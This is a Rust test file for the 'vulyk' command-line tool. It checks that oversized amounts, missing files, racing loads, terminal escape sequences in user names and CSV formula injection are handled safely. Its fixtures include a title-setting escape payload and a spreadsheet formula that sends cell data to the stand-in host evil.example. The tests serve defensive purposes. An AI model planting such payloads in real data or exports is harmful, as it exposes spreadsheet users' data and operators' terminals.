//! `vulyk` given what a careless or hostile operator might type: numbers too large for an
//! amount, files that are not there, loads that race each other. Each once ended in a panic
//! (exit 101) or a wrong exit code (issue #15); the README's table is the contract.

mod common;

use common::{Env, block_on, numbered_lines, volunteers_answer};
use vulyk_core::domain::{NewUser, UserId};

const HUGE: &str = "123456789012345678901234567";

on_both_backends!(
    amounts_too_large_are_invalid_input_not_a_panic,
    what_does_not_exist_is_exit_3,
    loads_racing_to_create_a_batch_both_land,
    escape_sequences_in_names_are_refused_and_never_printed_raw,
    a_csv_export_runs_no_formula_a_volunteer_planted
);

/// Sets the terminal's title and rings its bell when printed raw.
const TERMINAL_ESCAPE: &str = "\u{1b}]0;owned\u{7}Eve";

fn amounts_too_large_are_invalid_input_not_a_panic(env: &Env) {
    env.init();
    let input = env.write("a.jsonl", numbered_lines(0..3).as_bytes());
    let meta = format!("coins_per_task={HUGE}");
    env.run(&[
        "db",
        "load",
        "declaration_task",
        &input,
        "--batch",
        "rich",
        "--meta",
        &meta,
    ])
    .fails_with(5, "out of range");
    for level in [format!("\"{HUGE}\""), "1e30".to_string()] {
        let config = env.write("levels.toml", format!("[levels]\n2 = {level}\n").as_bytes());
        env.run(&["--config", &config, "batch", "list"])
            .fails_with(5, "levels.2");
    }
    assert!(env.batches().is_empty(), "nothing stored");
}

fn what_does_not_exist_is_exit_3(env: &Env) {
    env.init();
    env.run(&["db", "load", "tagging_task", &env.path("missing.jsonl")])
        .fails_with(3, "missing.jsonl");
    env.run(&["db", "load", "tagging_task", &env.path("*.none")])
        .fails_with(3, "no file matches");
    env.run(&["--config", &env.path("missing.toml"), "batch", "list"])
        .fails_with(3, "missing.toml");
    env.run(&[
        "funds",
        "add",
        "--name",
        "F",
        "--description",
        "d",
        "--logo",
        &env.path("missing.png"),
        "f1",
    ])
    .fails_with(3, "missing.png");
    // An unknown task type in a rule: `cli_game.rs`, `rules_are_managed_and_named_in_errors`.
}

fn loads_racing_to_create_a_batch_both_land(env: &Env) {
    env.init();
    for (round, batch) in ["raced", "default"].into_iter().enumerate() {
        let base = round as u32 * 1_000;
        let first = env.write("first.jsonl", numbered_lines(base..base + 300).as_bytes());
        let second = env.write(
            "second.jsonl",
            numbered_lines(base + 200..base + 500).as_bytes(),
        );
        let racers: Vec<_> = [&first, &second]
            .into_iter()
            .map(|input| {
                env.command(&[
                    "db",
                    "load",
                    "tagging_task",
                    input,
                    "--batch",
                    batch,
                    "--extend",
                ])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .expect("spawn vulyk")
            })
            .collect();
        for racer in racers {
            let output = racer.wait_with_output().expect("wait");
            assert!(
                output.status.success(),
                "{batch}: {}",
                String::from_utf8_lossy(&output.stderr)
            );
        }
        let stored = &env.batches()[batch];
        assert_eq!(stored["tasks"].as_u64(), Some(500), "{stored}");
        assert_eq!(env.count_tasks_in_batch(batch), 500);
    }
}

/// Display names come from strangers (the sign-up form, the original's database), and `vulyk`
/// prints them on the operator's terminal, where an escape sequence would act.
fn escape_sequences_in_names_are_refused_and_never_printed_raw(env: &Env) {
    env.init();
    env.run(&[
        "user",
        "add",
        "eve",
        "--email",
        "eve@example.org",
        "--name",
        TERMINAL_ESCAPE,
    ])
    .fails_with(5, "name: at most 100 characters, no control characters");
    // One stored before names were checked: by an older Vulyk, or the original.
    block_on(async {
        let store = vulyk_core::store::open(&env.db).await.expect("store");
        store
            .insert_user(&NewUser {
                id: UserId::generate(),
                username: "mallory".into(),
                email: "mallory@example.org".into(),
                name: TERMINAL_ESCAPE.into(),
                admin: false,
                groups: vec!["default".into()],
                password_hash: None,
                created_at: chrono::Utc::now(),
            })
            .await
            .expect("insert");
    });
    for args in [&["user", "list"][..], &["user", "show", "mallory"]] {
        let shown = env.run(args).ok().stdout;
        assert!(shown.contains("mallory"), "{args:?}: {shown}");
        assert!(
            !shown.contains(['\u{1b}', '\u{7}']),
            "{args:?} printed the escape raw: {shown:?}"
        );
        assert!(shown.contains("\\u{1b}]0;owned"), "{args:?}: {shown}");
    }
}

/// A volunteer's username or e-mail address may start with `=` (both are theirs to choose);
/// in a CSV export opened in a spreadsheet, such a cell would run as a formula (CSV
/// injection). The cell starts with `'`, which spreadsheets show as text.
fn a_csv_export_runs_no_formula_a_volunteer_planted(env: &Env) {
    env.init();
    let input = env.write("a.jsonl", numbered_lines(0..2).as_bytes());
    env.run(&["db", "load", "tagging_task", &input]).ok();
    let planted = "=HYPERLINK(\"http://evil.example/\"&A1)";
    volunteers_answer(env, "tagging_task", &[planted, "+1", "ann"], 1);
    env.run(&[
        "db",
        "export",
        "tagging_task",
        "--include-open",
        "--format",
        "csv",
        "-o",
        "out.csv",
    ])
    .ok();
    let text = std::fs::read_to_string(env.path("out.csv")).expect("export");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut usernames = Vec::new();
    for row in reader.records() {
        let row = row.expect("a CSV row");
        for cell in &row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        usernames.push(row[3].to_string());
    }
    usernames.sort();
    let expected = ["'+1", &format!("'{planted}"), "ann"];
    assert_eq!(usernames, expected, "the rest kept as it was");
}
